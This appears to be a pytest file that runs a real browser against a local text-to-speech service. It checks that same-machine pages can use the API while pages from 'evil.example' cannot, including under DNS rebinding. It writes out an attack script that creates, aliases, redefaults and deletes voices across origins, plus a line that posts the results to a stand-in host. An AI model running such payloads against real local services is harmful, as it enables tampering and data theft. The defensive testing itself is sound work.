"""Web pages in a real browser: those of this machine may speak; those of the web neither change nor read anything."""

from __future__ import annotations

import base64
import json
from collections.abc import Generator
from contextlib import ExitStack
from pathlib import Path
from typing import Any, Final

import httpx
import pytest
from support.browser import WebPage, browser_path, browsing, web_page
from support.service import RunningService, free_port, running_service

from chatterbox_api_testkit.sounds import voice_like, wav

pytestmark = pytest.mark.skipif(browser_path() is None, reason="Chromium is not installed (apt-get install chromium)")

_DEADLINE_S: Final = 90
_SCRIPT: Final = """<!doctype html><script type="module">
const found = {};
const attempt = async (name, ...request) => {
  try {
    const answer = await fetch(...request);
    const text = await answer.text();
    found[name] = {status: answer.status, type: answer.type, length: text.length, text: text.slice(0, 300)};
  } catch (error) { found[name] = {error: String(error)}; }
};
const clip = new Blob([Uint8Array.from(atob("CLIP"), c => c.charCodeAt(0))]);
const form = fields => {
  const data = new FormData();
  for (const [name, value] of Object.entries(fields)) data.append(name, value);
  return data;
};
BODY
await fetch("/report", {method: "POST", body: JSON.stringify(found)});
</script>"""
_ATTACK: Final = """
const stolen = {voice_name: "Stolen", voice_file: clip};
await attempt("create", at + "/v1/voices", {method: "POST", mode: "no-cors", body: form(stolen)});
await attempt("alias", at + "/v1/voices/Anna/aliases",
  {method: "POST", mode: "no-cors", body: new URLSearchParams({alias: "alloy"})});
await attempt("default", at + "/v1/voices/default",
  {method: "POST", mode: "no-cors", body: new URLSearchParams({voice_name: "Anna"})});
await attempt("delete", at + "/v1/voices/Anna", {method: "DELETE"});
await attempt("read", at + "/v1/voices");
await attempt("speak", at + "/v1/audio/speech/upload",
  {method: "POST", mode: "no-cors", body: form({input: "Hello", voice_file: clip})});
"""
_WAIT: Final = """
await fetch("/report", {method: "POST", body: "loaded"});
for (;;) {
  try { if (!(await fetch("/health")).headers.has("x-page")) break; } catch (error) { }
  await new Promise(resolve => setTimeout(resolve, 100));
}
"""
_REPORT: Final = """
await fetch("http://other.example:PORT/report", {method: "POST", mode: "no-cors", body: JSON.stringify(found)});
"""


def script(body: str) -> str:
    return _SCRIPT.replace("CLIP", base64.b64encode(wav(voice_like(120, 2))).decode()).replace("BODY", body)


def found_by(page: WebPage) -> dict[str, Any]:
    found: dict[str, Any] = json.loads(page.reports.get(timeout=_DEADLINE_S))
    return found


@pytest.fixture
def service(tmp_path: Path) -> Generator[RunningService, None, None]:
    (tmp_path / "service").mkdir()
    with running_service(tmp_path / "service", SYNTHESIZER="tone") as service:
        add_anna(service.url)
        yield service


def add_anna(url: str) -> None:
    files = {"voice_file": wav(voice_like(120, 4))}
    httpx.post(f"{url}/v1/voices", data={"voice_name": "Anna"}, files=files).raise_for_status()


def check_untouched(url: str) -> None:
    voices = httpx.get(f"{url}/v1/voices").json()["voices"]
    assert [(voice["name"], voice["aliases"]) for voice in voices] == [("Anna", [])]
    assert httpx.get(f"{url}/v1/voices/default").json()["default_voice"] is None


def test_a_page_of_this_machine_speaks_and_reads(service: RunningService, tmp_path: Path) -> None:
    """From another port and by another name, with a header that needs a preflight."""
    body = f"""
    const at = "{service.url}";
    await attempt("speak", at + "/v1/audio/speech", {{method: "POST", body: JSON.stringify({{input: "Hello."}}),
      headers: {{"content-type": "application/json", "x-made-up": "1"}}}});
    await attempt("read", at + "/v1/voices");
    await attempt("create", at + "/v1/voices", {{method: "POST", body: form({{voice_name: "Ben", voice_file: clip}})}});
    """
    with web_page(script(body)) as page, browsing(f"http://localhost:{page.port}/", tmp_path):
        found = found_by(page)
    assert found["speak"]["status"] == 200
    assert found["speak"]["length"] > 500
    assert "Anna" in found["read"]["text"]
    assert found["create"]["status"] == 201


def test_a_page_of_the_web_changes_nothing_and_reads_nothing(service: RunningService, tmp_path: Path) -> None:
    with web_page(script(f'const at = "{service.url}";{_ATTACK}')) as page:
        with browsing(f"http://evil.example:{page.port}/", tmp_path):
            found = found_by(page)
    assert found["read"]["error"]
    assert found["delete"]["error"]
    assert all(found[name].get("type", "opaque") == "opaque" for name in found)
    check_untouched(service.url)
    assert "done" not in service.log.read_text(), "something was spoken"


def test_a_page_whose_name_is_pointed_here_changes_and_reads_nothing(tmp_path: Path) -> None:
    """The page is loaded from an address at which the service then answers: to the browser, both are one origin."""
    folder, port = tmp_path / "service", free_port()
    folder.mkdir()
    with running_service(folder, SYNTHESIZER="tone") as service:
        add_anna(service.url)
    with web_page("") as reports, ExitStack() as stranger:
        attack = f'const at = "";{_WAIT}await attempt("health", "/health");{_ATTACK}'
        report = _REPORT.replace("PORT", str(reports.port))
        page = stranger.enter_context(web_page(script(attack + report), port=port))
        with browsing(f"http://evil.example:{port}/", tmp_path):
            assert page.reports.get(timeout=_DEADLINE_S) == "loaded"
            stranger.close()
            with running_service(folder, SYNTHESIZER="tone", PORT=str(port)) as service:
                found = found_by(reports)
                assert {name: answer["status"] for name, answer in found.items()} == dict.fromkeys(found, 403)
                assert all("foreign_host" in answer["text"] for answer in found.values())
                check_untouched(service.url)
